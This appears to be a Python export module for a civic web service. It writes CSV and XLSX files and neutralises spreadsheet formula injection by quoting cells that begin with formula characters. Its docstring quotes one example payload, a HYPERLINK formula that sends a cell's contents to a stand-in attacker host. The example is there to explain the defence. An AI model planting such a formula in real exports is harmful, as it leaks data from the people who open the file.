"""Every table the service lets people download as CSV or XLSX is written here.

Residents write proposal titles, names and descriptions, and officials open the exports in a
spreadsheet: a cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return,
which some spreadsheets skip before such a sign) is taken as a formula there, e.g.
``=HYPERLINK("https://evil.example/?"&A1, "click")``. Such text is written with a leading
apostrophe, the spreadsheets' own mark for "text, not a formula" (OWASP, *CSV Injection*);
numbers stay numbers.
"""
from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence

CSV_TYPE = "text/csv; charset=utf-8"
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
#: First characters that make a spreadsheet read a cell as a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value):
    """``value`` as it may be written to a cell: text that a spreadsheet would run is quoted."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def _safe_row(row: Iterable) -> list:
    return ["" if value is None else safe_cell(value) for value in row]


def _xlsx_cell(value, illegal_characters):
    """XML cannot carry most control characters (openpyxl refuses them): they are dropped."""
    if isinstance(value, str):
        value = illegal_characters.sub("", value)
    return safe_cell(value)


def csv_text(header: Sequence[str], rows: Iterable[Iterable], *, excel_bom: bool = False) -> str:
    """A CSV file; ``excel_bom`` starts it with a byte-order mark, so that Excel reads UTF-8 right."""
    buffer = io.StringIO()
    if excel_bom:
        buffer.write("\ufeff")
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow(_safe_row(header))
    writer.writerows(_safe_row(row) for row in rows)
    return buffer.getvalue()


def xlsx_bytes(header: Sequence[str], rows: Iterable[Iterable], *, title: str, number_formats: Sequence[str | None] = ()) -> bytes:
    """An XLSX workbook of one sheet: a frozen header row, and each column's number format if given."""
    # Imported here: openpyxl (with numpy) is 0.4 s of every process's start, and only a download needs it.
    from openpyxl import Workbook
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
    from openpyxl.utils import get_column_letter

    workbook = Workbook()
    sheet = workbook.active
    # Excel allows 31 characters and no []:*?/\ in a sheet's name.
    sheet.title = "".join(c for c in title if c not in "[]:*?/\\")[:31] or "Data"
    sheet.append(_safe_row(header))
    for row in rows:
        sheet.append([_xlsx_cell(value, ILLEGAL_CHARACTERS_RE) for value in row])
    for index, label in enumerate(header, start=1):
        letter = get_column_letter(index)
        sheet.column_dimensions[letter].width = max(12, min(40, len(label) + 2))
        number_format = number_formats[index - 1] if index <= len(number_formats) else None
        if number_format:
            for (cell,) in sheet.iter_rows(min_row=2, min_col=index, max_col=index):
                cell.number_format = number_format
    sheet.freeze_panes = "B2"
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()
